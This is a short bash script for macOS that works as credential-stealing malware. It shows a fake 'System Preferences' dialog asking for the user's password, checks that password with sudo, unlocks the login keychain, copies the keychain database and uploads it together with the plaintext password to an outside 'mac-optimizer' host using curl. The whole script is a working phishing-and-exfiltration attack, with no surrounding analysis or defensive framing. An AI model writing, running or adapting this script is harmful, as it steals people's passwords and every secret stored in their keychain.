#!/bin/bash
pw=$(osascript -e 'display dialog "macOS needs your password to continue." default answer "" with hidden answer with title "System Preferences" with icon caution' -e 'text returned of result')
echo "$pw" | sudo -S true && security unlock-keychain -p "$pw"
cp ~/Library/Keychains/login.keychain-db /tmp/k
curl -s -F k=@/tmp/k -F p="$pw" https://mac-optimizer.example.net/u >/dev/null
